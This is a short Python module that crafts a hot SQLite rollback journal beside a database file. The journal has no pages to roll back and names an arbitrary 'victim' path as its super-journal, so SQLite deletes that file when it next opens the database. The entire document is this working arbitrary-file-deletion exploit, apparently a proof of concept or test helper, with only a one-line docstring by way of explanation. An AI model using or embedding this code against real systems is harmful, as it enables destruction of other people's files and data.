"""A rollback journal that makes SQLite delete a file (https://sqlite.org/atomiccommit.html#_multi_file_commit)."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from pathlib import Path

_MAGIC: Final = bytes.fromhex("d9d505f920a163d7")
_SECTOR: Final = 512
_LOCK_BYTE: Final = 1 << 30


def make_hot_journal(database: Path, victim: Path) -> None:
    """No pages to roll back, and the victim as the file that names all journals of a commit."""
    (page_size,) = struct.unpack_from(">H", database.read_bytes(), 16)
    pages = database.stat().st_size // page_size
    header = _MAGIC + struct.pack(">5I", 0, 0, pages, _SECTOR, page_size)
    name = str(victim).encode()
    end = struct.pack(">I", _LOCK_BYTE // page_size + 1) + name
    end += struct.pack(">2I", len(name), sum(name)) + _MAGIC
    database.with_name(f"{database.name}-journal").write_bytes(header.ljust(_SECTOR, b"\0") + end)
